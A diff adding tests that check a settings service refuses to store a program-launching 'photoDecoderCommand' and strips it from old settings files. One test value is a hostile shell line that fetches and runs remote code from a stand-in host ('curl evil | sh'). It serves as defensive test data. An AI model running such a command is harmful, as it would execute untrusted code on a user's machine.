@@ -67,6 +67,40 @@ describe('settings', () => {
   });
 });
 
+describe('nothing in the settings runs a program', () => {
+  it('a photo decoder command is refused as install-only, whatever its value, and the file is untouched', () => {
+    const dir = tempDir();
+    const s = new SettingsService(confSettingsPort(dir));
+    s.update({ hall: { hallName: '人民路营业厅' } });
+    const file = path.join(dir, 'settings.json');
+    const before = fs.readFileSync(file);
+    for (const value of ['/bin/sh -c "curl evil | sh"', '/opt/vendor/wlt2bmp', null]) {
+      const err = refusal(() => s.update({ devices: { idcard: { port: '/dev/ttyUSB0', photoDecoderCommand: value } } }));
+      expect(err.code).toBe('SETTING_INSTALL_ONLY');
+      expect(err.message_zh).toContain('安装配置文件');
+      expect(err.message_en).toContain('install file');
+      expect(err.detail).toEqual({ field: ['devices', 'idcard', 'photoDecoderCommand'] });
+    }
+    expect(fs.readFileSync(file).equals(before)).toBe(true);
+    expect(JSON.stringify(s.get())).not.toContain('photoDecoder');
+  });
+
+  it('an old settings file holding one keeps its other values; the key is dropped from the file with a warning', () => {
+    const dir = tempDir();
+    const file = path.join(dir, 'settings.json');
+    fs.writeFileSync(file, JSON.stringify({ hall: { counterId: '05' }, devices: { idcard: { mode: 'serial', port: '/dev/ttyUSB0', photoDecoderCommand: '/tmp/x.sh' } } }));
+    const s = new SettingsService(confSettingsPort(dir));
+    expect(s.loadError).toBeNull();
+    expect(s.get().devices.idcard).toMatchObject({ mode: 'serial', port: '/dev/ttyUSB0' });
+    expect(s.get().hall.counterId).toBe('05');
+    expect(s.notices.map((n) => n.code)).toEqual(['SETTING_RETIRED']);
+    expect(s.notices[0]!.message_zh).toContain('devices.idcard.photoDecoderCommand');
+    expect(s.notices[0]!.message_en).toContain('no longer used');
+    expect(fs.readFileSync(file, 'utf8')).not.toContain('photoDecoderCommand');
+    expect(new SettingsService(confSettingsPort(dir)).notices).toEqual([]);
+  });
+});
+
 describe('the business calendar setting', () => {
   it('is validated: a closing time before the opening time is refused', () => {
     const s = new SettingsService(confSettingsPort(tempDir()));
